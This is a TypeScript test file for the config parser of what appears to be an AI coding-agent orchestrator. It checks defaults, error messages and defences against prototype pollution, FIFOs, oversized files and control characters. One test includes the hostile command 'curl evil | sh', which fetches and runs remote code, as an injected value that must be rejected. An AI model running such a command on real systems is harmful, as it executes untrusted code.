import { test } from "node:test"
import assert from "node:assert/strict"
import { readFileSync } from "node:fs"
import { ConfigError, configJsonSchema, parseConfig } from "./config.js"

const file = "/p/.opencode/orchestrator.json"

function problemsOf(text: string): string[] {
  try {
    parseConfig(text, file)
  } catch (error) {
    assert.ok(error instanceof ConfigError)
    assert.equal(error.file, file)
    return error.problems
  }
  assert.fail("expected a ConfigError")
}

test("empty config gives the documented defaults", () => {
  const config = parseConfig("{}", file)
  assert.deepEqual(
    { ...config },
    {
      concurrency: 3,
      modelConcurrency: {},
      maxReviewRounds: 3,
      maxMissionRounds: 3,
      maxPlanAttempts: 3,
      maxPlanTasks: 30,
      verifyTimeoutSeconds: 300,
      verifyConcurrency: "auto",
      roles: {},
      diagnostics: "auto",
      workerWeb: false,
      sandbox: "auto",
      sandboxNetwork: [],
      budget: { seconds: 1800, toolCalls: 300 },
      faults: { backoffSeconds: 2, retriesPerTask: 3, pauseAfter: 4 },
      worktrees: { enabled: true, includeUncommitted: true, link: ["node_modules"], copy: [".env"], setup: [], land: "auto", keep: false },
      context: { alpha: 0.8, budgets: { planner: 16_000, worker: 32_000, reviewer: 24_000, "master-reviewer": 24_000 } },
    },
  )
})

test("worktree paths must stay inside the project, and land is auto or branch", () => {
  const problems = problemsOf('{"worktrees": {"link": ["../elsewhere"], "copy": ["/etc/passwd"], "land": "merge", "keep": "yes"}}')
  assert.equal(problems.length, 4, problems.join("\n"))
  for (const pattern of [/"worktrees\.link\.0".*inside the project/, /"worktrees\.copy\.0".*inside the project/, /"worktrees\.land"/, /"worktrees\.keep"/])
    assert.ok(problems.some((problem) => pattern.test(problem)), `${pattern} in ${problems.join("; ")}`)
})

test("JSONC comments and trailing commas are accepted", () => {
  const config = parseConfig('{\n // run these\n "verify": ["npm test",],\n "roles": {"worker": {"model": "openai/gpt-5"}},\n}', file)
  assert.deepEqual(config.verify, ["npm test"])
  assert.equal(config.roles.worker?.model, "openai/gpt-5")
})

test("an unknown key is named, with its path", () => {
  assert.deepEqual(problemsOf('{"concurency": 2}'), ['unknown key "concurency"'])
  assert.deepEqual(problemsOf('{"roles": {"coder": {}}}'), ['unknown key "roles.coder"'])
})

test("a wrong type names the key", () => {
  const [problem] = problemsOf('{"concurrency": "2"}')
  assert.match(problem!, /^key "concurrency": .*number/)
  assert.match(problemsOf('{"roles": {"worker": {"model": "gpt"}}}')[0]!, /key "roles.worker.model": expected "provider\/model"/)
})

test("syntax errors give line and column", () => {
  assert.match(problemsOf('{\n  "verify": [\n}')[0]!, /at line 3 column 1/)
})

test("the shipped JSON schema is the one the code generates", () => {
  const shipped = JSON.parse(readFileSync(new URL("../../schema/orchestrator.schema.json", import.meta.url), "utf8"))
  assert.deepEqual(shipped, configJsonSchema(), "schema/orchestrator.schema.json is stale: run `npm run schema`")
})

test("a config that cannot be read is an error naming the file, not a default", async () => {
  const { mkdtempSync, mkdirSync } = await import("node:fs")
  const os = await import("node:os")
  const path = await import("node:path")
  const { loadConfig } = await import("./config.js")
  const project = mkdtempSync(path.join(os.tmpdir(), "config-"))
  mkdirSync(path.join(project, ".opencode", "orchestrator.json"), { recursive: true }) // a folder where the file should be
  assert.throws(() => loadConfig(project), (error: unknown) => error instanceof ConfigError && error.message === ".opencode/orchestrator.json: is not a regular file")
})

test("a FIFO, or a link to /dev/zero, in place of the config is refused at once, never read", async () => {
  const { mkdtempSync, mkdirSync, symlinkSync } = await import("node:fs")
  const { execFileSync } = await import("node:child_process")
  const os = await import("node:os")
  const path = await import("node:path")
  const { loadConfig } = await import("./config.js")
  for (const make of [(file: string) => execFileSync("mkfifo", [file]), (file: string) => symlinkSync("/dev/zero", file)]) {
    const project = mkdtempSync(path.join(os.tmpdir(), "config-"))
    mkdirSync(path.join(project, ".opencode"))
    make(path.join(project, ".opencode", "orchestrator.json"))
    assert.throws(() => loadConfig(project), /orchestrator\.json: is not a regular file/)
  }
})

test("a config larger than the cap is refused", async () => {
  const { mkdtempSync, mkdirSync, writeFileSync } = await import("node:fs")
  const os = await import("node:os")
  const path = await import("node:path")
  const { loadConfig, maxConfigBytes } = await import("./config.js")
  const project = mkdtempSync(path.join(os.tmpdir(), "config-"))
  mkdirSync(path.join(project, ".opencode"))
  writeFileSync(path.join(project, ".opencode", "orchestrator.json"), `{"verify": ["true"]}${" ".repeat(maxConfigBytes)}`)
  assert.throws(() => loadConfig(project), /is larger than 256 KiB/)
})

test("a __proto__ key is an unknown key: it cannot hide or supply settings", () => {
  assert.throws(() => parseConfig('{"__proto__": {"verify": ["curl evil | sh"]}}', "f"), /unknown key "__proto__"/)
  assert.throws(() => parseConfig('{"verify": ["npm test"], "__proto__": {"verify": []}}', "f"), /unknown key "__proto__"/)
  assert.throws(() => parseConfig('{"worktrees": {"constructor": 1}}', "f"), /unknown key "worktrees.constructor"/)
})

test("very deep nesting is a ConfigError, not a RangeError", () => {
  const deep = `{"roles": ${"[".repeat(100_000)}${"]".repeat(100_000)}}`
  assert.throws(() => parseConfig(deep, "f"), (error: unknown) => error instanceof ConfigError && /nested deeper than 32 levels/.test(error.message))
})

test("a NUL or other control character in a verify or setup command is refused", () => {
  assert.throws(() => parseConfig('{"verify": ["npm\\u0000 test"]}', "f"), /key "verify.0": must not contain NUL/)
  assert.throws(() => parseConfig('{"worktrees": {"setup": ["npm ci\\u001b"]}}', "f"), /key "worktrees.setup.0"/)
  assert.deepEqual(parseConfig('{"verify": ["npm test\\n\\tnpm run lint"]}', "f").verify, ["npm test\n\tnpm run lint"])
})
